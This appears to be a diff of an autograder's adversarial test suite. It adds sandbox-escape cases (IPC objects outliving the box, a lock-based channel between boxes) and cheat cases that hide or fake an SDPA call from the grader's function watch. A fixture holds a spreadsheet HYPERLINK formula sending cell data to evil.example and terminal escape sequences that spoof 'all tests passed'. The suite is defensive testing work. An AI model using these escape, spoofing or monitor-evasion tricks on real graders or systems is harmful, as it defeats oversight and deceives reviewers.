@@ -2,7 +2,8 @@
 
     1 root deletes files it does not own      symlink bait in shared folders        mnt (+ clean-up as the box's user)
     2 the trusted process allocates gigabytes a billion elements in a tiny frame    the wire's size checks
-    3 resources outlive the sandbox           SysV/POSIX IPC, files in /run/lock    ipc, mnt, landlock
+    3 resources outlive the sandbox           SysV/POSIX IPC, files in /run/lock    ipc, mnt, landlock, seccomp
+    3b a channel between boxes                locks on a file both may read         seccomp
     4 one submission costs another points     detached busy processes               pid (+ CPU-time limits)
     5 self-reported facts decide points       SDPA hidden from the watcher          the rule is worth no points
     6 isolation depends on the host           a world-readable clone of the tests   landlock (and mnt for /tmp)
@@ -49,6 +50,12 @@ class Hostile(Exception):
 Hostile.__name__ = '=HYPERLINK("http://evil.example/"&A1,"grades")'
 print("\\x1b]52;c;ZXZpbA==\\x07\\x1b[2K\\x1b[1Aall tests passed\\u202e")
 raise Hostile("\\x1b[31mred\\x1b[0m \\x1b]0;owned\\x07 message\\r\\n=1+1")"""
+
+
+def _zoo_bug(name: str) -> dict[str, str]:
+    """The files of one bug of the grading zoo (autograder/zoo/bugs.py)."""
+    from autograder.zoo.bugs import BUGS
+    return next(bug.overrides for bug in BUGS if bug.name == name)
 
 
 def ipc_key(context: Context) -> int:
@@ -147,11 +154,18 @@ def entries(context: Context) -> list[Entry]:
               cheat_with("huge_frame")),
         Entry(Expectation("escape-outlive-the-sandbox", "abuse", "graded",
                           "System V shared memory and queues, a POSIX queue, files in /run/lock and /dev/shm (stopped "
-                          "by its own IPC namespace, or where the kernel gives none, by its own user: what that "
-                          "user owns is removed, and it may make no POSIX queue)",
-                          baseline="reference", defence="ipc,uid", forbidden_paths=files[:4],
+                          "by its own IPC namespace, or where the kernel gives none, by the seccomp filter, which "
+                          "refuses them, and by its own user: what that user owns is removed, and it may make no "
+                          "POSIX queue)",
+                          baseline="reference", defence="ipc,uid,seccomp", forbidden_paths=files[:4],
                           forbidden_ipc_key=ipc_key(context), forbidden_queue=f"/{litter}-mq"),
               at_import("outlive", solution=True), needs_root=True),
+        Entry(Expectation("escape-lock-a-read-only-file", "abuse", "graded",
+                          "takes a whole-file lock and a byte-range lock on a file of its own submission that it may "
+                          "only read: the channel two boxes over the same files would share (the seccomp layer "
+                          "refuses every lock)", baseline="reference", defence="seccomp",
+                          forbidden_output=("GOT A LOCK",)),
+              at_import("lock_file", solution=True)),
         Entry(Expectation("escape-detached-busy-processes", "abuse", "graded",
                           "four detached processes spinning forever: they die with the box, nobody loses points",
                           baseline="reference", forbidden_process=f"-c while True: pass {HOG_MARK}"),
@@ -169,6 +183,12 @@ def entries(context: Context) -> list[Entry]:
                           flag="fused path never called torch's F.scaled_dot_product_attention"),
               lambda dest, _c: write_submission(dest, overrides=edited_reference("multihead.py", FUSED_CALL,
                                                                                  FUSED_VIA_MANUAL))),
+        Entry(Expectation("cheat-sdpa-output-thrown-away", "cheat", "graded",
+                          "the fused path computed by hand, with SDPA called on a slice whose output it throws away, "
+                          "so the watch sees the call: its output ignores the marks the grader puts on SDPA's output "
+                          "(autograder/provenance.py), so it earns what the path that never calls SDPA earns",
+                          no_better_than="bug-fused-path-is-manual", flag="does not come from its F.scaled_dot"),
+              lambda dest, _c: write_submission(dest, overrides=_zoo_bug("fused-sdpa-output-thrown-away"))),
         Entry(Expectation("cheat-sdpa-hidden-from-the-watch", "cheat", "graded",
                           "the same, hidden from the torch function watch (DisableTorchFunction): its source shows the "
                           "switch, so every test that runs its code earns nothing",
